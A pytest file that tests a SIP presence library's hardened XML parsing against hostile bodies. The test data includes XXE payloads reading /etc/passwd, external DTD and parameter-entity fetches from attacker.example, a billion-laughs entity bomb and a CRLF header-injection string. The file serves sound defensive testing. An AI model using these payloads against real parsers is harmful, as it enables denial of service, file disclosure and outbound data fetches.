"""
Tests for the hardened expat set-up shared by every XML body parser
(L{presence.xmlsafe}): each attack refused by each parser, quickly, with a
reason usable as a SIP reason phrase, and the body error contract.
"""

from __future__ import annotations

import re
import time
from typing import Callable, Dict, Tuple

import pytest

from presence.body import BodyError
from presence.dialoginfo import DialogInfoError, parseDialogInfo
from presence.pidf import PidfError, parsePidf
from presence.winfo import WatcherinfoError, parseWatcherinfo

# Per parser: the function, its error class, and a minimal valid root
# start tag (with {inner} where the content goes).
PARSERS: Dict[str, Tuple[Callable[[bytes], object], type, str]] = {
    "PIDF": (
        parsePidf,
        PidfError,
        '<presence xmlns="urn:ietf:params:xml:ns:pidf" entity="sip:bob@example.test">'
        '<tuple id="t"><status><basic>open</basic></status>{inner}</tuple></presence>',
    ),
    "dialog-info": (
        parseDialogInfo,
        DialogInfoError,
        '<dialog-info xmlns="urn:ietf:params:xml:ns:dialog-info" version="0" state="full"'
        ' entity="sip:bob@example.test"><dialog id="d"><state>early</state>{inner}</dialog>'
        "</dialog-info>",
    ),
    "watcherinfo": (
        parseWatcherinfo,
        WatcherinfoError,
        '<watcherinfo xmlns="urn:ietf:params:xml:ns:watcherinfo" version="0" state="full">'
        '<watcher-list resource="sip:bob@example.test" package="presence">{inner}'
        "</watcher-list></watcherinfo>",
    ),
}

LAUGHS = "".join(
    '<!ENTITY lol{} "{}">'.format(i, ("&lol{};".format(i - 1)) * 10) for i in range(1, 10)
)


def hostile(template: str) -> Dict[str, Tuple[bytes, str]]:
    root = template.split()[0][1:]

    def body(inner: str = "", prolog: str = "") -> bytes:
        return (prolog + template.format(inner=inner)).encode("utf-8")

    return {
        "billion laughs": (
            body("<x>&lol9;</x>", '<!DOCTYPE {} [<!ENTITY lol0 "lol">{}]>'.format(root, LAUGHS)),
            "DTD",
        ),
        "external entity": (
            body("<x>&xxe;</x>", '<!DOCTYPE {} [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'.format(root)),
            "DTD",
        ),
        "external DTD": (body("", '<!DOCTYPE {} SYSTEM "http://attacker.example/x.dtd">'.format(root)), "DTD"),
        "parameter entity": (
            body("", '<!DOCTYPE {} [<!ENTITY % p SYSTEM "http://attacker.example/x"> %p;]>'.format(root)),
            "DTD",
        ),
        "undefined entity": (body("<x>&xxe;</x>"), "malformed"),
        "huge body": (body("<x>" + "x" * 300 * 1024 + "</x>"), "too large"),
        "deep nesting": (body("<x>" * 40 + "</x>" * 40), "deeply"),
        "many elements": (body("<x/>" * 12000), "too"),
        "empty": (b"", "empty"),
        "not XML": (b"SIP/2.0 200 OK\r\n\r\n", "malformed"),
        "truncated": (body()[:-10], "malformed"),
        "two roots": (body() + body(), "malformed"),
        "invalid UTF-8": (body("<x>\xff</x>").replace(b"\xc3\xbf", b"\xff\xfe"), "malformed"),
        "unknown encoding": (b'<?xml version="1.0" encoding="x-no-such"?>' + body(), "unreadable"),
    }


CASES = [
    (parserName, caseName)
    for parserName in sorted(PARSERS)
    for caseName in sorted(hostile(PARSERS[parserName][2]))
]


@pytest.mark.parametrize("parserName,caseName", CASES)
def test_hostileRefused(parserName: str, caseName: str) -> None:
    """
    Every attack gives the parser's own BodyError subclass, within a
    second, with a header-safe reason that says what was wrong.
    """
    parse, error, template = PARSERS[parserName]
    data, hint = hostile(template)[caseName]
    started = time.perf_counter()
    with pytest.raises(error) as excinfo:
        parse(data)
    assert time.perf_counter() - started < 1.0
    assert isinstance(excinfo.value, BodyError)
    reason = excinfo.value.reason
    assert re.fullmatch(r"[\x20-\x7e]{1,120}", reason), reason
    assert hint.lower() in reason.lower(), reason


@pytest.mark.parametrize("parserName", sorted(PARSERS))
def test_validTemplateParses(parserName: str) -> None:
    """
    The documents the attacks are built on are valid, so each attack is
    refused for its attack and not for something else.
    """
    parse, _, template = PARSERS[parserName]
    parse(template.format(inner="").encode("utf-8"))


@pytest.mark.parametrize("parserName", sorted(PARSERS))
def test_strBodyIsAProgrammingError(parserName: str) -> None:
    parse, _, template = PARSERS[parserName]
    with pytest.raises(TypeError):
        parse(template.format(inner=""))  # type: ignore[arg-type]


def test_reasonIsHeaderSafe() -> None:
    """
    Whatever text goes into a BodyError, its reason is short printable
    ASCII; an empty one becomes the class default.
    """
    error = DialogInfoError("bad\r\nInjected: yes \xe9" + "x" * 500)
    assert "\r" not in error.reason and "\n" not in error.reason
    assert len(error.reason) == 120
    assert DialogInfoError("").reason == "invalid dialog-info"
    assert str(PidfError("")) == "invalid PIDF"
